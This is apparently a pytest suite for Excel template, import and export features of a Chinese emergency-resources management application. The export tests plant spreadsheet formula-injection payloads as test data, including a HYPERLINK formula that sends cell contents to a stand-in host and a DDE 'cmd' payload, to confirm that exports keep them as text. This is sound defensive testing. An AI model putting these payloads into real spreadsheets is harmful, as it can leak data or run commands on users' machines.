"""Excel in and out: templates, all-or-nothing imports with row errors in Chinese, the
writer's scope, and ledgers that keep formula-like text as text and import back."""

from io import BytesIO

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import Workbook, load_workbook

from anjian.core import excel_import
from anjian.core.jobs import HANDLERS, JobProgress, job_start
from anjian.core.models import BackgroundJob, JobStatus
from anjian.emergency import resource_exports as exports
from anjian.emergency import resource_import as importer
from anjian.emergency.choices import MovementKind, OwnerKind
from anjian.emergency.models import Equipment, Expert, RescueTeam, Shelter, Supply, Warehouse
from anjian.emergency.tests import factories_resources as make
from testsupport import world

FORMULA = '=HYPERLINK("http://x.example/?"&C2,"张三")'


def headers(kind: str) -> list[str]:
    return [c.header for c in exports.COLUMNS[kind] if c.importable]


def xlsx(kind: str, rows: list[dict]) -> BytesIO:
    """A file as a user fills the template: the importable headers, then ``rows`` (by key)."""
    keys = {c.key: c.header for c in exports.COLUMNS[kind]}
    book = Workbook()
    sheet = book.active
    sheet.append(headers(kind))
    for row in rows:
        by_header = {keys[k]: v for k, v in row.items()}
        sheet.append([by_header.get(h) for h in headers(kind)])
    buffer = BytesIO()
    book.save(buffer)
    buffer.seek(0)
    return buffer


def team_row(**overrides) -> dict:
    row = {
        "name": "殷行街道应急救援队",
        "kind": "专业救援队伍",
        "specialities": "灭火救援、建筑坍塌救援",
        "leader": "张三",
        "phone": "021-65012345",
        "headcount": 20,
        "region": world.YINHANG,
        "longitude": 121.53,
        "latitude": 31.32,
    }
    row.update(overrides)
    return row


def run(kind, rows, by=None, **options):
    return importer.import_resources(by or make.official(), kind, xlsx(kind, rows), **options)


def no_formulas(content: bytes) -> set:
    book = load_workbook(BytesIO(content))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    return {c.value for c in cells if c.data_type == "s"}


# --- templates --------------------------------------------------------------------------------


@pytest.mark.parametrize("kind", importer.IMPORT_KINDS)
def test_each_template_has_the_importable_columns_an_example_and_the_choices(kind):
    content = importer.template(kind)
    book = load_workbook(BytesIO(content))
    first = book.worksheets[0]
    assert [c.value for c in first[1]] == headers(kind)
    assert str(first["A2"].value).startswith("【示例】")
    assert "可选值" in book.sheetnames and "填写说明" in book.sheetnames
    no_formulas(content)


# --- importing --------------------------------------------------------------------------------


def test_a_team_file_imports_every_row(db):
    result = run("team", [team_row(), team_row(name="平凉路街道救援队", region=world.PINGLIANG)])
    assert (result.created, result.errors, result.imported) == (2, {}, True)
    team = RescueTeam.objects.get(name="殷行街道应急救援队")
    assert (team.specialities, team.kind, team.headcount) == (
        ",fire,collapse,",
        "professional",
        20,
    )
    assert team.cell is not None and team.owner_kind == OwnerKind.GOVERNMENT


def test_one_bad_row_imports_nothing_and_each_problem_is_named_by_row_and_column(db):
    result = run(
        "team",
        [
            team_row(name="好队伍"),
            team_row(name="坏电话", phone="请打电话"),
            team_row(name="坏专业", specialities="灭火救援、飞行"),
            team_row(name="外区", region=world.HONGKOU),
            team_row(name="半个坐标", latitude=None),
            team_row(name="", headcount=-1),
        ],
    )
    assert result.created == 0 and not RescueTeam.objects.exists()
    assert sorted(result.errors) == [3, 4, 5, 6, 7]
    assert result.errors[3] == [
        "【联系电话】联系电话格式不正确：“请打电话”（应为手机或座机号码，如 021-65012345）"
    ]
    assert result.errors[4][0].startswith("【专业方向】“飞行”无效，可选：灭火救援、")
    assert result.errors[5] == ["【所属区划代码】超出您的管辖范围"]
    assert result.errors[6] == ["【纬度】经度和纬度需同时填写"]
    assert result.errors[7] == ["【队伍名称】请填写队伍名称", "【队员人数】队员人数不能为负数"]
    report = load_workbook(BytesIO(excel_import.error_file(result))).active
    assert report["A1"].value == "原行号" and report.max_row == 7  # every row


def test_valid_mode_imports_the_good_rows_and_reports_the_rest(db):
    result = run("team", [team_row(), team_row(name="坏", phone="")], mode=importer.MODE_VALID)
    assert result.created == 1 and list(result.errors) == [3]
    assert RescueTeam.objects.get().pk == result.created_ids[0]


def test_a_repeated_row_or_an_already_registered_team_is_not_imported_twice(db):
    make.team(name="已登记队")
    result = run("team", [team_row(name="新队"), team_row(name="新队"), team_row(name="已登记队")])
    assert result.errors == {
        3: ["【队伍名称】与第2行重复（同一区划同名）"],
        4: ["【队伍名称】已登记（同一区划已有同名记录），不再重复导入"],
    }
    assert RescueTeam.objects.count() == 1


def test_an_enterprise_user_imports_for_its_own_unit(db):
    manager = world.actor("enterprise_manager")
    unit = world.enterprise("yinhang_chemical")
    result = run("team", [team_row(region="")], by=manager)
    assert result.created == 1
    assert RescueTeam.objects.get().enterprise_id == unit.pk
    other = run("team", [team_row(enterprise=world.enterprise("pingliang_factory").credit_code)])
    assert other.created == 1  # the official names the unit by its code
    assert RescueTeam.objects.filter(owner_kind=OwnerKind.ENTERPRISE).count() == 2
    refused = run("team", [team_row(name="X", enterprise="91310000000000000X")])
    assert "不是您管辖范围内登记的单位" in refused.errors[2][0]


def test_supplies_import_with_their_opening_stock_into_warehouses_by_name(db):
    store = make.warehouse(name="一号库")
    rows = [
        {
            "warehouse": "一号库",
            "name": "救生衣",
            "category": "抢险救援类",
            "unit": "件",
            "quantity": 30,
            "expires_on": "2030/6/30",
        },
        {"warehouse": "一号库", "name": "沙袋", "category": "排水防汛类", "unit": "袋"},
    ]
    result = run("supply", rows)
    assert (result.created, result.errors) == (2, {})
    vests = Supply.objects.get(warehouse=store, name="救生衣")
    assert (vests.quantity, str(vests.expires_on)) == (30, "2030-06-30")
    assert vests.movements.get().kind == MovementKind.RECEIPT
    bad = run("supply", [{**rows[0], "warehouse": "不存在的库", "name": "帐篷", "quantity": 1.5}])
    assert bad.errors[2] == ["【储备库】储备库“不存在的库”不存在或不在您的管辖范围内"]
    again = run("supply", [rows[0]])
    assert "同名、同规格、同批次" in again.errors[2][0]


@pytest.mark.parametrize(
    ("kind", "row", "model"),
    [
        (
            "warehouse",
            {
                "name": "区库",
                "storage_level": "区级",
                "manager": "李",
                "phone": "13800138000",
                "region": world.YANGPU,
            },
            Warehouse,
        ),
        (
            "shelter",
            {
                "name": "公园",
                "kind": "Ⅰ类",
                "area_m2": 20000,
                "capacity": 5000,
                "manager": "王",
                "phone": "021-65011111",
                "indoor": "否",
            },
            Shelter,
        ),
        (
            "expert",
            {"name": "赵", "field": "危险化学品", "phone": "13900139000", "available": "是"},
            Expert,
        ),
        (
            "equipment",
            {"name": "泵车", "category": "排水设备", "quantity": 2, "team": "一队"},
            Equipment,
        ),
    ],
)
def test_every_kind_imports(db, kind, row, model):
    team = make.team(name="一队")
    result = run(kind, [row])
    assert (result.created, result.errors) == (1, {})
    record = model.objects.get(name=row["name"])
    if kind == "equipment":
        assert record.team == team and record.cell == team.cell


def test_the_storage_level_must_match_the_region_in_a_file_too(db):
    result = run(
        "warehouse",
        [
            {
                "name": "库",
                "storage_level": "区级",
                "manager": "李",
                "phone": "13800138000",
                "region": world.YINHANG,
            }
        ],
    )
    assert result.errors[2][0].startswith("【储备层级】区级储备库应属于区/县")


def test_a_file_that_is_not_excel_is_refused_as_a_whole(db):
    result = importer.import_resources(make.official(), "team", BytesIO(b"name,phone\n"))
    assert "无法读取文件" in result.file_error and result.created == 0


def test_the_import_job_reports_and_offers_the_file_to_fix(db, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    upload = SimpleUploadedFile("teams.xlsx", xlsx("team", [team_row(phone="x")]).getvalue())
    job = job_start(kind="emergency_team_import", by=make.official(), params={}, upload=upload)
    HANDLERS[job.kind](job, JobProgress(job))
    job = BackgroundJob.objects.get(pk=job.pk)
    assert job.status == JobStatus.SUCCEEDED and job.report["error_rows"] == 1
    assert job.message == "未导入任何救援队伍" and job.output_file


# --- exporting --------------------------------------------------------------------------------


def test_ledgers_keep_formula_like_text_as_text(db):
    store = make.warehouse(name=FORMULA)
    line = make.supply(store, name="+1+cmd|' /C calc'!A0", quantity=3)
    make.team(name=FORMULA, leader="@SUM(1+1)")
    make.shelter(facilities="-1+1")
    make.expert(employer=FORMULA)
    make.equipment(category=FORMULA)
    planted = {FORMULA, "+1+cmd|' /C calc'!A0", "@SUM(1+1)", "-1+1"}
    texts = set()
    for kind in exports.COLUMNS:
        buffer = BytesIO()
        assert exports.write_resources(buffer, user=make.official(), kind=kind) >= 1
        texts |= no_formulas(buffer.getvalue())
    buffer = BytesIO()
    assert exports.write_movements(buffer, user=make.official()) == 1
    texts |= no_formulas(buffer.getvalue())
    assert planted <= texts and line.quantity == 3


def test_an_exported_ledger_imports_back_as_it_was(db):
    make.team(name="往返队", specialities=["water", "flood"], duty_phone="021-66666666")
    buffer = BytesIO()
    exports.write_resources(buffer, user=make.official(), kind="team")
    again = importer.import_resources(make.official(), "team", BytesIO(buffer.getvalue()))
    assert again.errors == {2: ["【队伍名称】已登记（同一区划已有同名记录），不再重复导入"]}
    RescueTeam.objects.all().delete()
    result = importer.import_resources(make.official(), "team", BytesIO(buffer.getvalue()))
    team = RescueTeam.objects.get()
    assert result.created == 1
    assert (team.name, team.specialities, team.duty_phone, team.region_id) == (
        "往返队",
        ",water,flood,",
        "021-66666666",
        world.YINHANG,
    )
    hidden = exports.write_resources(BytesIO(), user=world.actor("neighbour_official"), kind="team")
    assert hidden == 0
